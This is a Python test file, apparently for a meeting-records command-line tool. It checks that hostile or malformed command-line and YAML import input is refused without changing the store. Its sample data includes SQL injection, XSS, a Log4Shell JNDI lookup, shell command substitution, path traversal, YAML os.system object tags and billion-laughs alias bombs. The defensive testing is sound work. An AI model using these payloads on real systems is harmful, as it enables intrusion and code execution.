"""Hostile input, on the command line and in import files, on every store.

Every invalid case (an impossible date, a reversed range, a megabyte text, a
NUL, half a character, a number out of range, a value of the wrong YAML type,
an alias bomb) ends with exit 2 and one line `error: ...`, never a traceback,
and leaves the store exactly as it was (its number of events and its last
notification id). Every valid text, however odd (SQL and HTML injection,
right-to-left and emoji names, a text of exactly the length limit), is
recorded and read back exactly as given.

The cases are generated (hypothesis); `tests/reliability/cases.py` says how
many each test tries.
"""

from __future__ import annotations

import itertools
import json
import re
import time
from datetime import date
from pathlib import Path
from typing import Any

import attrs
import click
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from adapters.cli.import_files import MAX_FILE_BYTES
from adapters.cli.recording import RECORDING_COMMANDS
from domain.distribution import EMAIL_LIMIT
from domain.limits import BODY_CODE, NAME_LIMIT, REASON_LIMIT, SOURCE_LIMIT
from domain.values import (
    FIRST_YEAR,
    LAST_YEAR,
    MAX_NUMBER,
    DocumentKind,
    is_blank,
)
from tests.reliability.cases import cases
from tests.reliability.helpers import invoke, one_line_error, store_state

ON = "2020-02-01"
"""The effective date of every case: after everything the seed records."""

SEED = [
    ["establish-body", "egm", "--name=Expert group", "--on=2020-01-01"],
    ["schedule-session", "egm", "1", "--title=First session", "--start=2020-04-06",
     "--end=2020-04-08", "--venue=Vienna", "--on=2020-01-02"],
    ["issue-agenda", "egm", "1", "--item=1=Organizational matters",
     "--item=2=Cooperation", "--on=2020-01-03"],
    ["issue-document", "egm", "1", "--kind=guide", "--title=Guide", "--on=2020-01-03"],
    ["adopt-workplan", "egm", "--period=2020-2023", "--at-session=1",
     "--topic=2020=Cooperation", "--stocktaking-by=2023", "--on=2020-01-03"],
    ["request-comments", "egm", "--period=2020-2023", "--cycle=2020",
     "--deadline=2020-03-12", "--on=2020-01-03"],
    ["subscribe", "egm", "--email=someone@mission.example", "--name=Someone",
     "--on=2020-01-03"],
    # A session that has opened, for statements (recorded only once it opens).
    ["schedule-session", "egm", "3", "--title=Third session", "--start=2020-01-20",
     "--end=2020-01-22", "--venue=Vienna", "--on=2020-01-02"],
    ["open-session", "egm", "3", "--on=2020-01-20"],
]  # fmt: skip


@pytest.fixture
def seeded(store: str) -> str:
    """The store holding a body, a session with an agenda and a document, a
    workplan and a call for comments, and a session that has opened: each case
    is checked against them."""
    for args in SEED:
        ran = invoke(*args, store=store)
        assert ran.code == 0, (args, ran.err)
    return store


# What each command takes: its fields, each of a kind, with a valid value.


@attrs.frozen
class Field:
    name: str
    """The option (`--title`), or the positional's name (`body`)."""
    kind: str
    value: str

    @property
    def positional(self) -> bool:
        return not self.name.startswith("--")


def _fields(*specs: tuple[str, str, str], on: str = ON) -> tuple[Field, ...]:
    return (
        *(Field(*spec) for spec in specs),
        Field("--on", "date", on),
        Field("--actor", "name", "officer"),
        Field("--source", "source", "UNODC/CCPCJ/EG.4/2020/INF/1"),
        Field("--assumed", "flag", "true"),
        Field("--decided-by", "name", "the extended Bureau"),
    )


TEMPLATES: dict[str, tuple[Field, ...]] = {
    "establish-body": _fields(
        ("code", "code", "egm2"),
        ("--name", "name", "Working group"),
        ("--parent", "name", "CCPCJ"),
        ("--mandate", "reason", "resolution 65/230"),
    ),
    "schedule-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "2"),
        ("--title", "name", "Second session"),
        ("--start", "date", "2021-01-10"),
        ("--end", "date", "2021-01-12"),
        ("--venue", "name", "Vienna"),
        ("--format", "format", "hybrid"),
    ),
    "postpone-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--reason", "reason", "the pandemic"),
        ("--start", "date", "2020-07-27"),
        ("--end", "date", "2020-07-29"),
    ),
    "reschedule-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--start", "date", "2020-05-04"),
        ("--end", "date", "2020-05-06"),
        ("--reason", "reason", "a room fell free"),
    ),
    "change-venue": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--venue", "name", "Online"),
        ("--format", "format", "online"),
    ),
    "issue-agenda": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--item", "item", "3=Prevention"),
    ),
    "issue-document": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--kind", "kind", "report"),
        ("--title", "name", "Report"),
        ("--symbol", "name", "UNODC/CCPCJ/EG.4/2020/L.1"),
        ("--language", "language", "en"),
    ),
    "circulate-document": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--title", "name", "Guide"),
        ("--to", "name", "extended Bureau"),
        ("--via", "name", "Special Message"),
    ),
    "record-statement": _fields(
        ("body", "code", "egm"),
        ("number", "number", "3"),
        ("--delegation", "name", "Chile"),
        ("--item", "number", "3"),
    ),
    "confirm-panelist": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--name", "name", "Ms. A. Panelist"),
        ("--delegation", "name", "Chile"),
        ("--item", "number", "3"),
        ("--title", "name", "Cooperation in practice"),
    ),
    "adopt-workplan": _fields(
        ("body", "code", "egm"),
        ("--period", "period", "2024-2027"),
        ("--at-session", "number", "1"),
        ("--topic", "topic", "2024=Prevention"),
        ("--stocktaking-by", "year", "2027"),
    ),
    "request-comments": _fields(
        ("body", "code", "egm"),
        ("--period", "period", "2020-2023"),
        ("--cycle", "year", "2021"),
        ("--deadline", "date", "2021-03-01"),
    ),
    "extend-deadline": _fields(
        ("body", "code", "egm"),
        ("--period", "period", "2020-2023"),
        ("--cycle", "year", "2020"),
        ("--to", "date", "2020-06-01"),
        ("--reason", "reason", "the pandemic"),
    ),
    "receive-submission": _fields(
        ("body", "code", "egm"),
        ("--period", "period", "2020-2023"),
        ("--cycle", "year", "2020"),
        ("--from", "name", "Chile"),
        ("--as", "submitter", "member-state"),
        ("--ref", "name", "CL/2020/1"),
    ),
    "correct-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--reason", "reason", "misspelt when recorded"),
        ("--title", "name", "First session of the group"),
        ("--venue", "name", "Vienna International Centre"),
    ),
    "open-session": _fields(
        ("body", "code", "egm"), ("number", "number", "1"), on="2020-05-04"
    ),
    "adopt-report": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--symbol", "name", "UNODC/CCPCJ/EG.4/2020/2"),
        on="2020-05-05",
    ),
    "close-session": _fields(
        ("body", "code", "egm"), ("number", "number", "1"), on="2020-05-06"
    ),
    "cancel-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "2"),
        ("--reason", "reason", "no quorum"),
    ),
    "subscribe": _fields(
        ("body", "code", "egm"),
        ("--email", "email", "focal.point@mission.example"),
        ("--name", "name", "Maria Huber"),
        ("--delegation", "name", "Austria"),
        ("--language", "language", "fr"),
        ("--bureau", "flag", "true"),
    ),
    "unsubscribe": _fields(
        ("body", "code", "egm"), ("--email", "email", "someone@mission.example")
    ),
    "strike-entry": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--version", "number", "3"),
        ("--reason", "reason", "issued in error"),
        on="2020-05-07",
    ),
    "translate-session": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--language", "language", "fr"),
        ("--title", "name", "Première session"),
        on="2020-05-08",
    ),
    "translate-body": _fields(
        ("body", "code", "egm"),
        ("--language", "language", "ar"),
        ("--name", "name", "فريق الخبراء"),
    ),
    "publish-translation": _fields(
        ("body", "code", "egm"),
        ("number", "number", "1"),
        ("--symbol", "name", "UNODC/CCPCJ/EG.4/2020/L.1"),
        ("--language", "language", "es"),
        ("--title", "name", "Informe"),
        on="2020-05-08",
    ),
}
"""A valid command of each recording command, recorded after the seed, each in
turn (checked below)."""


def command_line(verb: str, values: dict[str, str | None]) -> list[str]:
    """The words of `verb` with these field values (None: left out); options
    as `--name=value` and positionals after `--`, so that no value, whatever
    it holds, is read as an option."""
    options, positionals = [], []
    for field in TEMPLATES[verb]:
        value = values.get(field.name, field.value)
        if value is None:
            continue
        if field.positional:
            positionals.append(value)
        elif field.kind == "flag" and value == "true":
            options.append(field.name)
        elif field.kind != "flag" or value != "false":
            options.append(f"{field.name}={value}")
    return [verb, *options, "--", *positionals]


def test_each_command_as_written_here_is_recorded(seeded: str) -> None:
    """The valid commands the hostile cases start from are valid: a refused
    case is refused because of the value it changed, not for another reason."""
    assert set(TEMPLATES) == {str(command.name) for command in RECORDING_COMMANDS}
    for verb in TEMPLATES:
        before = store_state(seeded)
        ran = invoke(*command_line(verb, {}), store=seeded)
        assert ran.code == 0, (verb, ran.err)
        assert store_state(seeded)[0] == before[0] + 1


# What can never be valid.


def _valid_date(text: str) -> bool:
    if not re.fullmatch(r"\d{4}-\d{2}-\d{2}", text.strip()):
        return False
    try:
        day = date.fromisoformat(text.strip())
    except ValueError:
        return False
    return FIRST_YEAR <= day.year <= LAST_YEAR


IMPOSSIBLE_DATES = st.one_of(
    st.sampled_from(
        [
            "2020-02-30", "2021-02-29", "2100-02-29", "2020-04-31", "2020-13-01",
            "2020-00-10", "2020-01-00", "0000-01-01", "0001-01-01", "1944-12-31",
            "2201-01-01", "9999-12-31", "20200101", "2020-1-1", "2020/01/01",
            "01-02-2020", "2020-01-01T10:00", "today", "", " ", "-2020-01-01",
            "２０３０-０１-０１", "٢٠٣٠-٠١-٠١", "2020-01-01\x00", "2020-01-0１",
        ]
    ),
    st.builds(
        "{:04d}-{:02d}-{:02d}".format,
        st.integers(0, 9999),
        st.integers(0, 99),
        st.integers(0, 99),
    ),
    st.text(max_size=30),
).filter(lambda text: not _valid_date(text))  # fmt: skip

BAD_NUMBERS = st.one_of(
    st.integers(max_value=0).map(str),
    st.integers(min_value=MAX_NUMBER + 1).map(str),
    st.sampled_from(["", " ", "1.5", "1e3", "0x10", "+1", "١", "²", "一", "one",
                     "99999999999999999999999999", "1\x00", "-0"]),
    st.text(max_size=12).filter(lambda text: not re.fullmatch("[0-9]+", text.strip())),
)  # fmt: skip

BAD_YEARS = st.one_of(
    st.integers(max_value=FIRST_YEAR - 1).map(str),
    st.integers(min_value=LAST_YEAR + 1).map(str),
    st.text(max_size=8).filter(lambda text: not re.fullmatch("[0-9]+", text.strip())),
)

BAD_PERIODS = st.one_of(
    st.builds("{}-{}".format, st.integers(FIRST_YEAR + 1, LAST_YEAR),
              st.integers(FIRST_YEAR, LAST_YEAR)).filter(
        lambda p: int(p[5:]) < int(p[:4])),  # reversed
    st.builds("{:04d}-{:04d}".format, st.integers(0, FIRST_YEAR - 1),
              st.integers(0, 9999)),
    st.sampled_from(["2030", "2030-", "2030-33", "2030–2033", "2030 - 2033", "",
                     "¹⁹⁴⁵-²⁰²⁰", "٢٠١٨-٢٠٢١", "２０３０-２０３３", "2030-２０３３"]),
    st.text(max_size=12),
).filter(lambda text: not re.fullmatch(r"([0-9]{4})-([0-9]{4})", text.strip()) or not (
    FIRST_YEAR <= int(text.strip()[:4]) <= int(text.strip()[5:]) <= LAST_YEAR
))  # fmt: skip

BAD_CODES = st.one_of(
    st.sampled_from(["", "EGM", "egm egm", "-egm", "egm_2", "egm\x00", "égm",
                     "egm\ud800", "a" * 65, "egm/../x", "egm;DROP"]),
    st.text(max_size=70),
).filter(lambda text: not BODY_CODE.fullmatch(text))  # fmt: skip

BLANK = " \t\n\u00a0\u2003\u3000\u200b\u200c\u200d\u2060\ufeff\u200f\u3164\u2800"
"""Characters that show nothing: spaces, zero-width ones, direction marks,
fillers; a text of them alone is blank."""
CONTROL = st.characters(categories=["Cc"], exclude_characters="\n\t")
SURROGATE = st.characters(categories=["Cs"])
TEXT = st.characters(exclude_categories=["Cs", "Cc"])


@st.composite
def bad_texts(draw: st.DrawFn, limit: int, longest: int = 2_000_000) -> str:
    """A text no store may hold: too long (up to megabytes), blank, or holding
    a control character (NUL among them) or half a character."""
    base = draw(st.text(TEXT, min_size=1, max_size=40))
    how = draw(st.sampled_from(["long", "blank", "control", "nul", "surrogate"]))
    if how == "long":
        length = draw(st.integers(limit + 1, max(longest, limit + 1)))
        return (base * (length // len(base) + 1))[:length]
    if how == "blank":
        return draw(st.text(st.sampled_from(BLANK), max_size=5))
    bad = {"control": CONTROL, "nul": st.just("\x00"), "surrogate": SURROGATE}[how]
    at = draw(st.integers(0, len(base)))
    return base[:at] + draw(bad) + base[at:]


def _not_one_of(*values: str) -> st.SearchStrategy[str]:
    return st.text(max_size=20).filter(lambda text: text not in values)


BAD_VALUES: dict[str, st.SearchStrategy[str]] = {
    "code": BAD_CODES,
    "number": BAD_NUMBERS,
    "year": BAD_YEARS,
    "date": IMPOSSIBLE_DATES,
    "name": bad_texts(NAME_LIMIT),
    "reason": bad_texts(REASON_LIMIT),
    "source": bad_texts(SOURCE_LIMIT),
    "flag": _not_one_of("true", "false"),
    "period": BAD_PERIODS,
    "format": _not_one_of("in-person", "hybrid", "online"),
    "language": _not_one_of("ar", "zh", "en", "fr", "ru", "es"),
    "email": st.one_of(
        st.sampled_from(
            [
                "",
                " ",
                "no-at-sign",
                "a@b",
                "a b@c.org",
                "a@b.org, c@d.org",
                "<a@b.org>",
                "a@b.org\n",
                "é@b.org",
                "a@@b.org",
                "a@b.org\x00",
            ]
        ),
        st.builds("{}@mission.example".format, st.just("x" * 300)),
    ),
    "kind": _not_one_of(*(kind.value for kind in DocumentKind)),
    "submitter": _not_one_of("member-state", "observer"),
    "item": st.one_of(
        st.builds("{}={}".format, BAD_NUMBERS, st.just("Prevention")),
        st.builds("3={}".format, bad_texts(NAME_LIMIT)),
        st.sampled_from(["Prevention", "=Prevention", "3:Prevention"]),
    ),
    "topic": st.one_of(
        st.builds("{}={}".format, BAD_YEARS, st.just("Prevention")),
        st.builds("2024={}".format, bad_texts(NAME_LIMIT)),
    ),
}
"""For each kind of field, values that are never valid."""


def _required() -> dict[str, set[str]]:
    required: dict[str, set[str]] = {}
    for command in RECORDING_COMMANDS:
        names = set()
        for param in command.params:
            if param.required:
                names.add(
                    param.opts[0]
                    if isinstance(param, click.Option)
                    else str(param.name)
                )
        required[str(command.name)] = names
    return required


REQUIRED = _required()
DATED = [
    verb
    for verb, fields in TEMPLATES.items()
    if {"--start", "--end"} <= {f.name for f in fields}
]


@st.composite
def invalid_commands(draw: st.DrawFn) -> list[str]:
    """A valid command with one thing made invalid: a value never valid for
    its field, a required field left out, a range reversed, or an unknown option."""
    how = draw(st.sampled_from(["value"] * 6 + ["omit", "reversed", "unknown"]))
    if how == "reversed":
        verb = draw(st.sampled_from(DATED))
        start = draw(st.dates(date(FIRST_YEAR, 1, 2), date(LAST_YEAR, 12, 31)))
        end = draw(st.dates(date(FIRST_YEAR, 1, 1), start).filter(lambda d: d < start))
        return command_line(
            verb, {"--start": start.isoformat(), "--end": end.isoformat()}
        )
    verb = draw(st.sampled_from(sorted(TEMPLATES)))
    if how == "omit":
        name = draw(st.sampled_from(sorted(REQUIRED[verb])))
        return command_line(verb, {name: None})
    if how == "unknown":
        option = draw(st.from_regex(r"--[a-z]{1,12}", fullmatch=True))
        words = command_line(verb, {})
        if any(option == word.partition("=")[0] for word in words) or option in (
            "--help",
            "--h",
        ):
            option = "--no-such-option"
        return [words[0], f"{option}=x", *words[1:]]
    field = draw(st.sampled_from(TEMPLATES[verb]))
    return command_line(verb, {field.name: draw(BAD_VALUES[field.kind])})


def per_store(store: str, *, sqlite: int, postgres: int) -> int:
    """The number of cases for this store: PostgreSQL opens a connection pool
    for every command, several times slower than an SQLite file."""
    return sqlite if store.startswith("sqlite") else postgres


@pytest.mark.reliability
def test_an_invalid_command_is_refused_in_one_line_and_changes_nothing(
    seeded: str,
) -> None:
    @cases(per_store(seeded, sqlite=1200, postgres=500))
    @given(words=invalid_commands())
    def check(words: list[str]) -> None:
        before = store_state(seeded)
        ran = invoke(*words, store=seeded)
        assert ran.code == 2, (words[:8], ran.code, ran.err[:500])
        one_line_error(ran.err)
        assert ran.out == ""
        assert store_state(seeded) == before

    check()


@pytest.mark.reliability
def test_a_command_on_a_record_that_does_not_exist_is_refused_and_changes_nothing(
    seeded: str,
) -> None:
    """Numbers and codes well formed but naming nothing recorded: a rule refuses
    them (exit 1), before anything is written."""

    @cases(per_store(seeded, sqlite=300, postgres=60))
    @given(
        verb=st.sampled_from([v for v in TEMPLATES if v != "establish-body"]),
        body=st.from_regex(BODY_CODE, fullmatch=True).filter(lambda c: c != "egm"),
        number=st.integers(4, MAX_NUMBER),  # the seed has 1 and 3, a template 2
        other_body=st.booleans(),
    )
    def check(verb: str, body: str, number: int, other_body: bool) -> None:
        if verb == "schedule-session" or not any(
            f.name == "number" for f in TEMPLATES[verb]
        ):
            other_body = True
        values = {"body": body} if other_body else {"number": str(number)}
        before = store_state(seeded)
        ran = invoke(*command_line(verb, values), store=seeded)
        assert ran.code == 1, (verb, values, ran.err)
        reason = one_line_error(ran.err)
        assert "there is no" in reason
        assert store_state(seeded) == before

    check()


# What is valid, however odd it looks.

ODD_TEXTS = [
    "Robert'); DROP TABLE stored_events;--",
    "' OR '1'='1",
    "1; DELETE FROM calendar_sessions WHERE 1=1",
    '"; DROP SCHEMA public CASCADE; --',
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; &amp; &#x27;",
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://example.org/a}",
    "%s%s%s%n",
    "\\x00 is not a NUL",
    "$(touch /tmp/pwned) `id`",
    "../../etc/passwd",
    "null",
    "~",
    "true",
    "- a list?",
    "*alias &anchor !!python/object:os.system",
    "الجمهورية العربية السورية",
    "\u202eevil.exe\u202c",
    "שלום \u200f(Israel)\u200f",
    "🇺🇳 United Nations 🕊️",
    "👩🏽‍⚖️ Judge",
    "Côte d’Ivoire",
    "Türkiye",
    "中华人民共和国",
    "Ω≈ç√∫˜µ≤≥÷",
    "zero\u200bwidth",
    "   padded   ",
    "a line\nand another\tafter a tab",
    "\u2028line separator",
]
"""Texts that look like attacks or trouble: all valid, all kept as given."""


def valid_texts(limit: int) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(ODD_TEXTS),
        st.text(st.one_of(TEXT, st.sampled_from("\n\t")), min_size=1, max_size=300),
        st.builds(
            lambda character, length: character * length,
            st.characters(exclude_categories=["Cs", "Cc", "Z"]),
            st.integers(limit - 3, limit),
        ),
    ).filter(lambda text: not is_blank(text) and len(text) <= limit)


def history(store: str, number: int) -> list[dict[str, Any]]:
    ran = invoke("history", "egm", str(number), "--json", store=store)
    assert ran.code == 0, ran.err
    events: list[dict[str, Any]] = json.loads(ran.out)["events"]
    return events


def view(store: str, name: str) -> Any:
    ran = invoke(name, "--body=egm", "--json", store=store)
    assert ran.code == 0, ran.err
    return json.loads(ran.out)


@pytest.mark.reliability
def test_any_valid_text_is_recorded_and_read_back_exactly(seeded: str) -> None:
    numbers = itertools.count(10)

    @cases(per_store(seeded, sqlite=150, postgres=30))
    @given(
        names=st.lists(valid_texts(NAME_LIMIT), min_size=5, max_size=5),
        reason=valid_texts(REASON_LIMIT),
    )
    def check(names: list[str], reason: str) -> None:
        title, venue, actor, panelist, delegation = names
        number = next(numbers)
        commands = [
            ["schedule-session", f"--title={title}", f"--venue={venue}",
             "--start=2021-01-10", "--end=2021-01-12"],
            ["confirm-panelist", f"--name={panelist}", f"--delegation={delegation}",
             "--item=1", f"--title={title}"],
            ["postpone-session", f"--reason={reason}", "--start=2021-02-10",
             "--end=2021-02-12"],
        ]  # fmt: skip
        for verb, *options in commands:
            ran = invoke(verb, *options, f"--on={ON}", f"--actor={actor}",
                         "--", "egm", str(number), store=seeded)  # fmt: skip
            assert ran.code == 0, (verb, ran.err)

        scheduled, confirmed, postponed = history(seeded, number)
        assert (scheduled["title"], scheduled["venue"]) == (title, venue)
        assert (confirmed["name"], confirmed["delegation"]) == (panelist, delegation)
        assert confirmed["title"] == title
        assert postponed["reason"] == reason
        assert {scheduled["actor"], confirmed["actor"], postponed["actor"]} == {actor}

        [session] = [s for s in view(seeded, "calendar")["sessions"]
                     if s["number"] == number]  # fmt: skip
        assert (session["title"], session["venue"]) == (title, venue)
        [postponement] = [p for p in view(seeded, "postponements")["postponements"]
                          if p["number"] == number]  # fmt: skip
        assert (postponement["reason"], postponement["actor"]) == (reason, actor)

    check()


def test_every_option_that_takes_a_text_states_its_length_limit() -> None:
    for command in RECORDING_COMMANDS:
        shown = " ".join(
            invoke(str(command.name), "--help", store="sqlite:///unused.db").out.split()
        )
        for param in command.params:
            if not isinstance(param, click.Option) or param.is_flag:
                continue
            if not param.expose_value:  # --store, --log-json: not recorded
                continue
            if param.type is not click.STRING and param.type.name != "N=TEXT":
                continue
            limit = {
                "reason": REASON_LIMIT,
                "mandate": REASON_LIMIT,
                "source": SOURCE_LIMIT,
                "email": EMAIL_LIMIT,
            }.get(str(param.name), NAME_LIMIT)
            stated = f"at most {limit:,} characters"
            assert stated in (param.help or ""), (command.name, param.opts)
            assert stated in shown, command.name


# Import files.


def file_key(field: Field) -> str:
    """The name a field has in an import file."""
    if field.positional:
        return field.name
    if field.kind in ("item", "topic"):  # repeatable: named by the plural
        return field.kind + "s"
    return field.name.removeprefix("--")


def file_value(field: Field, value: str) -> Any:
    if field.kind == "item":
        number, _, title = value.partition("=")
        return {number: title}
    if field.kind == "topic":
        year, _, topic = value.partition("=")
        return {year: [topic]}
    return value


def entry(verb: str) -> dict[str, Any]:
    """The import entry of the valid command `verb`."""
    return {
        "command": verb,
        **{file_key(f): file_value(f, f.value) for f in TEMPLATES[verb]},
    }


def write_import(path: Path, entries: list[Any]) -> str:
    path.write_text(
        yaml.safe_dump(entries, allow_unicode=True, sort_keys=False, width=10**9),
        encoding="utf-8",
    )
    return str(path)


NEL = "\x85"
"""A control character that YAML reads as a line break: it cannot be written
into a file as itself, so the file cases leave it out."""

FILE_BAD_VALUES: dict[str, st.SearchStrategy[Any]] = {
    **{
        kind: strategy.filter(lambda value: NEL not in value)
        for kind, strategy in BAD_VALUES.items()
        if kind not in ("name", "reason", "source", "item", "topic")
    },
    "name": bad_texts(NAME_LIMIT, longest=50_000).filter(lambda v: NEL not in v),
    "reason": bad_texts(REASON_LIMIT, longest=50_000).filter(lambda v: NEL not in v),
    "source": bad_texts(SOURCE_LIMIT, longest=50_000).filter(lambda v: NEL not in v),
    "item": st.one_of(
        st.builds(lambda number: {number: "Prevention"}, BAD_NUMBERS),
        st.builds(lambda title: {"3": title}, bad_texts(NAME_LIMIT, longest=5000)),
        st.just({}),
    ).filter(lambda value: NEL not in repr(value)),
    "topic": st.one_of(
        st.builds(lambda year: {year: ["Prevention"]}, BAD_YEARS),
        st.builds(lambda topic: {"2024": [topic]}, bad_texts(NAME_LIMIT, longest=5000)),
        st.just({"2024": []}),
    ).filter(lambda value: NEL not in repr(value)),
}
"""The values never valid for each kind of field, as written in a file."""

NESTED = st.recursive(
    st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.text(max_size=5), inner, max_size=3
    ),
    max_leaves=8,
)  # fmt: skip


@st.composite
def malformed_entries(draw: st.DrawFn) -> Any:
    """A valid entry with one thing wrong: a value never valid for its field,
    a value of the wrong YAML type, a field unknown, a required one missing,
    a command unknown, or an entry that is not a mapping at all."""
    verb = draw(st.sampled_from(sorted(TEMPLATES)))
    data = entry(verb)
    how = draw(
        st.sampled_from(["value"] * 5 + ["type", "unknown", "omit", "command", "shape"])
    )
    if how == "value":
        field = draw(st.sampled_from(TEMPLATES[verb]))
        data[file_key(field)] = draw(FILE_BAD_VALUES[field.kind])
    elif how == "type":
        field = draw(st.sampled_from(TEMPLATES[verb]))
        if field.kind in ("item", "topic"):
            wrong = draw(st.text(max_size=10) | st.lists(st.text(max_size=5)))
        else:
            wrong = draw(NESTED.filter(lambda value: not isinstance(value, str)))
        data[file_key(field)] = wrong
    elif how == "unknown":
        key = draw(st.from_regex(r"[a-z][a-z-]{0,15}", fullmatch=True))
        if key in data or key == "command":
            key = "no-such-field"
        data[key] = draw(st.text(max_size=10))
    elif how == "omit":
        keys = {file_key(f) for f in TEMPLATES[verb] if f.name in REQUIRED[verb]}
        del data[draw(st.sampled_from(sorted({*keys, "on", "command"})))]
    elif how == "command":
        data["command"] = draw(
            st.text(max_size=20).filter(lambda text: text not in TEMPLATES)
            | NESTED.filter(lambda value: not isinstance(value, str))
        )
    else:
        return draw(NESTED.filter(lambda value: not isinstance(value, dict)))
    return data


@pytest.mark.reliability
def test_a_malformed_import_file_is_refused_whole_and_changes_nothing(
    seeded: str, tmp_path: Path
) -> None:
    @cases(per_store(seeded, sqlite=500, postgres=200))
    @given(
        good=st.lists(st.sampled_from(sorted(TEMPLATES)), max_size=5),
        bad=malformed_entries(),
        at=st.integers(0, 5),
    )
    def check(good: list[str], bad: Any, at: int) -> None:
        entries: list[Any] = [entry(verb) for verb in good]
        at = min(at, len(entries))
        entries.insert(at, bad)
        path = write_import(tmp_path / "hostile.yaml", entries)
        before = store_state(seeded)
        ran = invoke("import", path, store=seeded)
        assert ran.code == 2, (bad, ran.code, ran.err[:500])
        reason = one_line_error(ran.err)
        assert refers_to_entry(reason, path, at), reason
        assert store_state(seeded) == before

    check()


def refers_to_entry(reason: str, path: str, index: int) -> bool:
    """Whether `reason` names the entry at `index`: as an entry, or, when the
    YAML reader refuses the text itself (an escape of half a surrogate pair),
    by a line of that entry."""
    if f": entry {index + 1} (line " in reason:
        return True
    refused = re.search(r": line (\d+): not readable as YAML", reason)
    if refused is None:
        return False
    with open(path, encoding="utf-8") as file:  # read by the pure-Python reader
        entry = yaml.compose(file, Loader=yaml.SafeLoader).value[index]
    return entry.start_mark.line < int(refused[1]) <= entry.end_mark.line + 1


@pytest.mark.reliability
def test_any_valid_text_in_an_import_file_is_recorded_exactly(
    seeded: str, tmp_path: Path
) -> None:
    numbers = itertools.count(10)

    @cases(per_store(seeded, sqlite=60, postgres=20))
    @given(
        names=st.lists(valid_texts(NAME_LIMIT), min_size=5, max_size=5),
        reason=valid_texts(REASON_LIMIT),
    )
    def check(names: list[str], reason: str) -> None:
        title, venue, actor, panelist, delegation = names
        number = str(next(numbers))
        common = {"body": "egm", "number": number, "on": ON, "actor": actor}
        entries = [
            {"command": "schedule-session", **common, "title": title,
             "venue": venue, "start": "2021-01-10", "end": "2021-01-12"},
            {"command": "confirm-panelist", **common, "name": panelist,
             "delegation": delegation, "item": "1", "title": title},
            {"command": "postpone-session", **common, "reason": reason,
             "start": "2021-02-10", "end": "2021-02-12"},
        ]  # fmt: skip
        path = write_import(tmp_path / "odd.yaml", entries)
        ran = invoke("import", path, store=seeded)
        assert ran.code == 0, ran.err

        scheduled, confirmed, postponed = history(seeded, int(number))
        assert (scheduled["title"], scheduled["venue"]) == (title, venue)
        assert (confirmed["name"], confirmed["delegation"]) == (panelist, delegation)
        assert postponed["reason"] == reason
        assert {scheduled["actor"], confirmed["actor"], postponed["actor"]} == {actor}

    check()


def billion_laughs(levels: int = 9) -> str:
    lines = ['- &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels + 1):
        refs = ", ".join([f"*l{level - 1}"] * 9)
        lines.append(f"- &l{level} [{refs}]")
    return "\n".join(lines) + "\n"


def billion_laughs_in_an_entry(levels: int = 9) -> str:
    fields = ['  l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels + 1):
        refs = ", ".join([f"*l{level - 1}"] * 9)
        fields.append(f"  l{level}: &l{level} [{refs}]")
    return "- command: establish-body\n" + "\n".join(fields) + "\n"


BOMBS = {
    # Its first entry, a list, is refused before any alias is read.
    "billion laughs": (billion_laughs(), "entry 1 (line 1): this entry is not a"),
    "billion laughs inside an entry": (billion_laughs_in_an_entry(), "alias"),
    "aliases inside an entry": (
        "- &e {command: record-statement, body: egm, number: 1, delegation: Chile,"
        " on: 2020-02-01}\n- {<<: *e, delegation: Peru}\n",
        "alias",
    ),
    "a python object": (
        "- !!python/object/apply:os.system ['touch {marker}']\n",
        "the tag !!python/object/apply:os.system is not accepted",
    ),
    "a python object as a value": (
        "- {command: establish-body, code: egm3, on: 2020-02-01,"
        " name: !!python/object/apply:os.system ['touch {marker}']}\n",
        "the tag !!python/object/apply:os.system is not accepted",
    ),
    "nested a hundred thousand times": ("[" * 100_000 + "]" * 100_000, "nested"),
    "a megabyte text": (
        "- {command: establish-body, code: egm3, on: 2020-02-01, name: "
        + "x" * 1_000_000
        + "}\n",
        "the limit is 1,000",
    ),
    "a NUL byte": (
        "- {command: establish-body, code: egm3, on: 2020-02-01, name: a\x00b}\n",
        "not readable as YAML",
    ),
}


@pytest.mark.parametrize(("text", "reason"), BOMBS.values(), ids=BOMBS.keys())
def test_a_hostile_import_file_is_refused_fast_and_runs_nothing(
    seeded: str, tmp_path: Path, text: str, reason: str
) -> None:
    marker = tmp_path / "executed"
    path = tmp_path / "bomb.yaml"
    path.write_text(text.replace("{marker}", str(marker)), encoding="utf-8")
    before = store_state(seeded)
    started = time.perf_counter()
    ran = invoke("import", str(path), store=seeded)
    elapsed = time.perf_counter() - started
    assert ran.code == 2, ran.err
    assert reason in one_line_error(ran.err)
    assert elapsed < 5, f"{elapsed:.1f} s"
    assert store_state(seeded) == before
    assert not marker.exists()


@pytest.mark.parametrize(
    "data",
    [b"\xff\xfe- {command: x}\n", b"- {command: establish-body, name: \xc3(}\n"],
    ids=["utf-16 mark", "not utf-8"],
)
def test_an_import_file_that_is_not_utf8_is_refused(
    seeded: str, tmp_path: Path, data: bytes
) -> None:
    path = tmp_path / "binary.yaml"
    path.write_bytes(data)
    before = store_state(seeded)
    ran = invoke("import", str(path), store=seeded)
    assert ran.code == 2, ran.err
    one_line_error(ran.err)
    assert store_state(seeded) == before


def test_an_import_file_too_large_is_refused_unread(
    seeded: str, tmp_path: Path
) -> None:
